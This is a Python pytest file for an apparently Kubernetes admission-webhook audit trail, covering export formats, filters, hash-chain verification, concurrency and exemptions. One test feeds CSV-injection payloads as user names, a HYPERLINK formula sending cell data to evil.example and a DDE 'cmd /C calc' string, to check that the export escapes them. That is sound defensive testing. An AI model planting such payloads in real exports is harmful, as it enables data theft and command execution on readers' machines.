"""Export filters and formats; the stores under concurrency, batch mode and failures."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import threading
from contextlib import closing
from pathlib import Path
from typing import Any

import orjson
import pytest

from webhook.admission import Decision
from webhook.audit import open_store, open_trail, parse_url
from webhook.audit.base import Filters
from webhook.audit.export import CSV_COLUMNS, export, parse_time
from webhook.audit.record import chain_hash
from webhook.audit.verify import verify
from webhook.cli import main
from webhook.config import Settings
from webhook.errors import AuditError

from webhook.policies import PolicySet

from .conftest import OpenStore
from .helpers import decide, deployment
from .tamper import database


def exported(url: str, fmt: str = "jsonl", **filters: Any) -> bytes:
    with closing(open_trail(url)) as trail:
        out = io.BytesIO()
        export(trail, Filters(**filters), fmt, out)
        return out.getvalue()


def jsonl(url: str, **filters: Any) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in exported(url, **filters).splitlines()]


@pytest.fixture
def trail_url(db_url: str, make_store: OpenStore, sample_decisions: list[Decision]) -> str:
    store = make_store(db_url)
    for decision in sample_decisions:
        store.record(decision, 3.0)
    store.close()
    return db_url


def test_export_filters(trail_url: str, sample_decisions: list[Decision]) -> None:
    everything = jsonl(trail_url)
    assert [r["uid"] for r in everything] == [d.uid for d in sample_decisions]
    assert {r["name"] for r in jsonl(trail_url, namespace="shop")} == {"web", "api"}
    assert [r["name"] for r in jsonl(trail_url, namespace="")] == ["team-a"]
    assert {r["user"]["username"] for r in jsonl(trail_url, user="alice")} == {"alice"}
    assert len(jsonl(trail_url, user="alice")) == 2
    denied = jsonl(trail_url, verdict="denied")
    assert denied and all(r["verdict"] == "denied" for r in denied)
    by_policy = jsonl(trail_url, policy="require-probes")
    assert by_policy and all(any(f["policy"] == "require-probes" for f in r["findings"]) for r in by_policy)
    assert jsonl(trail_url, policy="require") == []  # whole ids only
    middle = everything[2]["ts"]
    assert [r["ts"] for r in jsonl(trail_url, since=middle)] == [r["ts"] for r in everything[2:]]
    assert [r["ts"] for r in jsonl(trail_url, until=middle)] == [r["ts"] for r in everything[:2]]
    assert jsonl(trail_url, since=parse_time("2999-01-01", "--since")) == []


def test_jsonl_export_carries_verifiable_hashes(trail_url: str) -> None:
    for record in jsonl(trail_url):
        digest = record.pop("hash")
        assert chain_hash(record["prevHash"], orjson.dumps(record, option=orjson.OPT_SORT_KEYS)) == digest


def test_csv_export(trail_url: str, sample_decisions: list[Decision], tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    assert main(["audit", "export", "--audit", trail_url, "--format", "csv", "--output", str(out), "--namespace", "shop"]) == 0
    rows = list(csv.reader(out.open(newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r[CSV_COLUMNS.index("name")] for r in rows[1:]] == ["web", "api"]
    first = dict(zip(CSV_COLUMNS, rows[1]))
    assert first["verdict"] == "denied" and first["allowed"] == "false" and first["seq"] == "1"
    assert "require-probes" in first["policies"].split(";")


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(
    tmp_path: Path, make_store: OpenStore, policies: PolicySet
) -> None:
    """A user name comes from the authenticator (an OIDC claim): ``=HYPERLINK(...)`` in a cell
    would run in whatever spreadsheet opens the compliance export (CSV injection)."""
    url = f"sqlite:{tmp_path / 'audit.db'}"
    store = make_store(url)
    users = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1+1", "\x00=1+1", "alice"]
    for user in users:
        store.record(decide(policies, deployment("web", "shop"), user=user), 1.0)
    store.close()
    rows = list(csv.reader(io.StringIO(exported(url, "csv").decode())))
    names = [row[CSV_COLUMNS.index("username")] for row in rows[1:]]
    # "\r=1+1": the piece after the line break too (a row of its own in a ';' locale)
    assert names == ["'" + user for user in users[:5]] + ["'\r'=1+1", "'\x00=1+1", "alice"]
    assert [row[CSV_COLUMNS.index("latencyMs")] for row in rows[1:]] == ["1.0"] * len(users)  # numbers are kept
    for user in users:  # the export is a view: the stored records still verify with the names as sent
        assert jsonl(url, user=user)[0]["user"]["username"] == user
    with closing(open_trail(url)) as trail:
        assert verify(trail).ok


def test_policyreport_export(trail_url: str) -> None:
    documents = [orjson.loads(doc) for doc in exported(trail_url, "policyreport").split(b"---\n") if doc.strip()]
    kinds = {(d["kind"], d["metadata"].get("namespace")) for d in documents}
    assert kinds == {("ClusterPolicyReport", None), ("PolicyReport", "shop"), ("PolicyReport", "data")}
    for report in documents:
        assert report["apiVersion"] == "wgpolicyk8s.io/v1alpha2"
        assert report["results"]
        counted = {k: sum(r["result"] == k for r in report["results"]) for k in ("pass", "fail", "warn", "error", "skip")}
        assert report["summary"] == counted
        for result in report["results"]:
            assert {"policy", "rule", "result", "severity", "message", "resources", "source", "timestamp"} <= set(result)
            assert result["source"] == "railguard" and result["result"] in {"pass", "fail", "warn"}
            assert result["severity"] in {"critical", "high", "medium", "low", "info"}
            assert set(result["timestamp"]) == {"seconds", "nanos"} and result["timestamp"]["seconds"] > 1_600_000_000
            assert all(isinstance(v, str) for v in result["properties"].values())
            resource = result["resources"][0]
            assert resource.get("namespace") == report["metadata"].get("namespace")
    shop = next(d for d in documents if d["metadata"].get("namespace") == "shop")
    assert any(r["result"] == "fail" and r["policy"] == "require-run-as-non-root" for r in shop["results"])


def test_bad_export_options_are_clear_errors(trail_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit", "export", "--audit", trail_url, "--since", "yesterday"]) == 2
    assert "--since" in capsys.readouterr().err
    assert main(["audit", "verify", "--audit", "mysql://x"]) == 2
    assert "unknown audit store" in capsys.readouterr().err


def test_empty_filter_values_filter_or_are_refused_never_ignored(
    trail_url: str, tmp_path: Path, make_store: OpenStore, policies: PolicySet, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--user "$WHO"`` with WHO unset used to export every user's records, and an empty
    ``--since``/``--until``/``--policy`` the whole trail: a reviewer asking for a slice got all of
    it without a word. ``--user ''`` now selects requests without a user name (as ``--namespace ''``
    selects cluster-scoped objects), on every store; the others are usage errors."""
    assert jsonl(trail_url, user="") == []
    store = make_store(trail_url, writer="w2")
    store.record(decide(policies, deployment("anon", "shop"), user=""), 1.0)
    store.close()
    assert [r["name"] for r in jsonl(trail_url, user="")] == ["anon"]
    copy = tmp_path / "copy.jsonl"
    assert main(["audit", "export", "--audit", trail_url, "--output", str(copy)]) == 0
    assert [r["name"] for r in jsonl(f"jsonl:{copy}", user="")] == ["anon"]
    capsys.readouterr()
    for option in ("--since", "--until", "--policy"):
        assert main(["audit", "export", "--audit", trail_url, option, ""]) == 2
        assert option in capsys.readouterr().err
    assert main(["audit", "export", "--audit", trail_url, "--policy", "require-probes require-resources"]) == 2


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_export_output_that_is_the_trail_itself_is_refused_and_the_trail_kept(
    kind: str, tmp_path: Path, make_store: OpenStore, sample_decisions: list[Decision], capsys: pytest.CaptureFixture[str]
) -> None:
    """``--output`` naming the trail (by its path, a symlink or a hard link) used to truncate it
    before a record was read: the audit trail was destroyed and, for JSON Lines, the command
    even reported success ("exported 0 record(s))."""
    trail = tmp_path / f"audit.{kind}"
    url = f"{kind}:{trail}"
    store = make_store(url)
    for decision in sample_decisions:
        store.record(decision, 1.0)
    store.close()
    (tmp_path / "link").symlink_to(trail)
    (tmp_path / "hard").hardlink_to(trail)
    before = trail.read_bytes()
    for output in (trail, tmp_path / "link", tmp_path / "hard"):
        assert main(["audit", "export", "--audit", url, "--output", str(output)]) == 2
        assert "the trail's own file" in capsys.readouterr().err
        assert trail.read_bytes() == before
    assert main(["audit", "verify", "--audit", url]) == 0
    out = tmp_path / "export.csv"
    out.write_bytes(b"x" * 100_000)  # an ordinary existing output file is still replaced
    assert main(["audit", "export", "--audit", url, "--format", "csv", "--output", str(out)]) == 0
    assert len(list(csv.reader(out.open(newline="")))) == 1 + len(sample_decisions)


def test_concurrent_threads_and_tasks_keep_one_valid_chain(db_url: str, make_store: OpenStore, sample_decisions: list[Decision]) -> None:
    store = make_store(db_url)
    other = make_store(db_url, writer="w2")  # a second writer on the same trail at the same time
    per_thread = 50

    def work(s: Any) -> None:
        for decision in itertools.islice(itertools.cycle(sample_decisions), per_thread):
            s.record(decision, 1.0)

    threads = [threading.Thread(target=work, args=(store if i % 2 else other,)) for i in range(8)]
    for t in threads:
        t.start()

    async def tasks() -> None:
        await asyncio.gather(*(store.arecord(sample_decisions[i % len(sample_decisions)], 1.0) for i in range(300)))

    asyncio.run(tasks())
    for t in threads:
        t.join(60)
    store.close()
    other.close()
    with closing(open_trail(db_url)) as trail:
        report = verify(trail)
    assert report.ok, [str(p) for p in report.problems[:5]]
    assert {w: m.seq for w, m in report.writers.items()} == {"w1": 4 * per_thread + 300, "w2": 4 * per_thread}


def test_batch_mode_commits_on_flush_and_close(tmp_path: Path, make_store: OpenStore, sample_decisions: list[Decision]) -> None:
    url = f"sqlite:{tmp_path / 'batch.db'}"
    store = make_store(url, durability="batch", interval=30.0, batch_size=10_000)
    for decision in sample_decisions * 4:
        store.record(decision, 1.0)
    with database(url) as db:
        assert db.run("SELECT count(*) FROM audit_records")[0][0] == 0  # accepted, not yet committed
    store.flush()
    with database(url) as db:
        assert db.run("SELECT count(*) FROM audit_records")[0][0] == 20
    store.record(sample_decisions[0], 1.0)
    store.close()
    with database(url) as db:
        assert db.run("SELECT count(*) FROM audit_records")[0][0] == 21


def test_jsonl_stdout(capfd: pytest.CaptureFixture[str], sample_decisions: list[Decision]) -> None:
    store = open_store(Settings(audit_url="jsonl:-"), writer="pod-a")
    store.record(sample_decisions[0], 1.0)
    store.close()
    line = orjson.loads(capfd.readouterr().out.splitlines()[-1])
    assert line["writer"].startswith("pod-a-") and line["seq"] == 1 and line["uid"] == sample_decisions[0].uid


def test_failures_raise_clear_audit_errors(tmp_path: Path, sample_decisions: list[Decision]) -> None:
    with pytest.raises(AuditError, match="cannot open"):
        open_store(Settings(audit_url=f"sqlite:{tmp_path / 'missing-dir' / 'a.db'}"))
    with pytest.raises(AuditError, match="durability"):
        open_store(Settings(audit_url=f"sqlite:{tmp_path / 'a.db'}", audit_durability="sometimes"))
    with pytest.raises(AuditError) as unreachable:
        open_store(Settings(audit_url="postgresql://app:s3cr3t-pw@127.0.0.1:1/db"))
    assert "s3cr3t-pw" not in str(unreachable.value) and "***" in str(unreachable.value)
    assert parse_url("sqlite:///var/lib/a.db") == ("sqlite", "/var/lib/a.db")
    store = open_store(Settings(audit_url=f"sqlite:{tmp_path / 'a.db'}"), writer="w")
    assert store.writable()
    store.close()
    assert not store.writable()
    with pytest.raises(AuditError, match="closed"):
        store.record(sample_decisions[0], 1.0)


def test_durable_failure_reaches_async_callers_and_readiness(tmp_path: Path, sample_decisions: list[Decision]) -> None:
    store = open_store(Settings(audit_url=f"sqlite:{tmp_path / 'a.db'}"), writer="w")
    store.sink.close()

    async def call() -> None:
        await store.arecord(sample_decisions[0], 1.0)

    with pytest.raises(AuditError, match="cannot commit"):
        asyncio.run(call())
    assert not store.writable()
    store._thread.join(0)  # the thread survives a failed commit
    assert store._thread.is_alive()
    store.close()


@pytest.mark.parametrize("fmt", ["csv", "policyreport"])
def test_parallel_formatting_gives_the_same_bytes_as_serial(
    trail_url: str, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from webhook.audit import export as export_module

    monkeypatch.setattr(export_module, "PARALLEL_WORKERS", 1)
    serial = exported(trail_url, fmt)
    monkeypatch.setattr(export_module, "PARALLEL_WORKERS", 2)
    monkeypatch.setattr(export_module, "PARALLEL_CHUNK", 3)  # many chunks, formatted in worker processes
    parallel = exported(trail_url, fmt)
    assert serial == parallel
    assert serial.count(b"\n") > 3


def test_new_sqlite_stores_get_8k_pages_existing_ones_keep_theirs(tmp_path: Path, sample_decisions: list[Decision]) -> None:
    import sqlite3

    from webhook.audit.sqlite import PAGE_SIZE

    old = tmp_path / "old.db"
    with closing(sqlite3.connect(old)) as conn:  # a store made before 8 KiB pages, with 4 KiB ones
        conn.execute("CREATE TABLE t (x)")
        conn.commit()
    for path, expected in ((tmp_path / "new.db", PAGE_SIZE), (old, 4096)):
        store = open_store(Settings(audit_url=f"sqlite:{path}"), writer="w")
        store.record(sample_decisions[0], 1.0)
        store.close()
        with closing(sqlite3.connect(path)) as conn:
            assert conn.execute("PRAGMA page_size").fetchone()[0] == expected
            assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        with closing(open_trail(f"sqlite:{path}")) as trail:
            assert verify(trail).ok


def test_the_wal_is_checkpointed_every_few_pages(tmp_path: Path, sample_decisions: list[Decision]) -> None:
    """The checkpoint runs inside a commit and stalls it in proportion to the WAL's size: railguard
    keeps the WAL at WAL_AUTOCHECKPOINT pages (SQLite's default, 1,000, let it reach 8 MB)."""
    import os

    from webhook.audit.record import build_record
    from webhook.audit.sqlite import PAGE_SIZE, WAL_AUTOCHECKPOINT, SqliteSink

    path = tmp_path / "a.db"
    sink = SqliteSink(str(path), "w")
    assert sink.conn.execute("PRAGMA wal_autocheckpoint").fetchone()[0] == WAL_AUTOCHECKPOINT < 1000
    for i in range(600):  # 6,000 records: over 900 pages of records and indexes
        sink.append([build_record(sample_decisions[(i + j) % len(sample_decisions)], 1.0) for j in range(10)])
    database_pages = os.path.getsize(path) // PAGE_SIZE
    wal_pages = os.path.getsize(f"{path}-wal") // PAGE_SIZE  # the file is reused, never shrunk: its peak
    sink.close()
    assert database_pages > 3 * WAL_AUTOCHECKPOINT  # enough written for several checkpoints
    assert wal_pages <= WAL_AUTOCHECKPOINT + 20  # the threshold plus the last commit's frames
    with closing(open_trail(f"sqlite:{path}")) as trail:
        report = verify(trail)
        assert report.ok and report.records == 6000


def test_exemptions_are_recorded_and_exported(db_url: str, make_store: OpenStore, policies: Any) -> None:
    """What an exemption kept from judgement is in the record, the CSV and the PolicyReport (as a
    skip result): an auditor sees that a root container was admitted because of exemption #0."""
    import datetime as dt

    from webhook.admission import request_for_manifest, review
    from webhook.config import parse_cluster_config

    config = parse_cluster_config(
        {"exemptions": [
            {"policies": ["require-run-as-non-root"], "namespaces": ["legacy"], "reason": "vendor image, OPS-412", "expires": "2027-03-31"},
            {"policies": ["require-probes"], "containers": ["proxy"], "reason": "mesh proxy, MESH-7", "expires": "2027-06-30"},
        ]},
        policies, "cluster.yaml",
    )  # fmt: skip
    container = {"name": "proxy", "image": "proxy:1", "securityContext": {"runAsUser": 0}, "resources": {"limits": {"cpu": "1", "memory": "1Gi"}}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "legacy"}, "spec": {"containers": [container]}}
    decision = review(request_for_manifest(pod), policies, config, mode="validate", today=dt.date(2026, 11, 22))
    assert decision.allowed and decision.findings == ()
    assert decision.exemptions == (
        "require-run-as-non-root: exemption #0 (vendor image, OPS-412), until 2027-03-31",
        'require-probes on container "proxy": exemption #1 (mesh proxy, MESH-7), until 2027-06-30',
    )
    store = make_store(db_url)
    store.record(decision, 1.0)
    store.close()
    (record,) = jsonl(db_url)
    assert record["exemptions"] == list(decision.exemptions)
    with closing(open_trail(db_url)) as trail:
        assert verify(trail).ok
    rows = list(csv.reader(io.StringIO(exported(db_url, "csv").decode())))
    assert dict(zip(CSV_COLUMNS, rows[1]))["exemptions"] == ";".join(decision.exemptions)
    (report,) = [orjson.loads(doc) for doc in exported(db_url, "policyreport").split(b"---\n") if doc.strip()]
    skipped = [(r["policy"], r["message"]) for r in report["results"] if r["result"] == "skip"]
    assert skipped == [("require-run-as-non-root", f"exempted: {decision.exemptions[0]}"), ("require-probes", f"exempted: {decision.exemptions[1]}")]
    assert report["summary"]["skip"] == 2 and report["summary"]["pass"] == 1


@pytest.mark.parametrize(
    "container, applied",
    [
        (None, "the railguard.io/exempt annotation"),
        (None, "exemption #0 (vendor image: runs on node pool x), until 2027-03-31"),
        ('container "proxy"', "exemption #1 (mesh proxy on: MESH-7), until 2027-06-30"),
    ],
)
def test_the_exemption_text_gives_its_policy_back(container: str | None, applied: str) -> None:
    """The PolicyReport's skip result names the policy read from the recorded text: whatever the
    reason says (colons, " on "), the policy id comes back whole."""
    from webhook.engine import exempted_policy, exemption_text

    assert exempted_policy(exemption_text("require-probes", applied, container)) == "require-probes"


def test_the_policy_filter_is_case_sensitive_on_every_store(trail_url: str) -> None:
    """Policy ids are lower case: another case matches none, on SQLite (whose LIKE ignores case) as on PostgreSQL."""
    assert jsonl(trail_url, policy="require-probes")
    assert jsonl(trail_url, policy="REQUIRE-PROBES") == []
    assert jsonl(trail_url, policy="Require-Probes") == []
    assert jsonl(trail_url, policy="require_probes") == []  # '_' is no wildcard
    assert jsonl(trail_url, policy="require%") == []  # nor '%'


def test_each_scalar_field_of_a_record_has_its_csv_column_with_the_same_value(trail_url: str) -> None:
    """The CSV header names each record field it holds as the record does (``policyDigest``...):
    a column renamed or shifted would hand a reviewer another field's values under that name."""
    records = jsonl(trail_url)
    rows = list(csv.DictReader(io.StringIO(exported(trail_url, "csv").decode())))
    assert len(rows) == len(records) > 0
    renamed = {"ts": "timestamp"}
    for record, row in zip(records, rows):
        scalars = {key: value for key, value in record.items() if isinstance(value, (str, int, float)) and not isinstance(value, bool)}
        shown = {key: value for key, value in scalars.items() if renamed.get(key, key) in row}
        # the fields the README names, each under its own name
        assert shown.keys() >= {"ts", "writer", "seq", "uid", "namespace", "name", "verdict", "policyDigest", "railguardVersion", "latencyMs", "hash"}
        for key, value in shown.items():
            assert row[renamed.get(key, key)] == str(value), key
        assert row["allowed"] == str(record["allowed"]).lower() and row["dryRun"] == str(record["dryRun"]).lower()
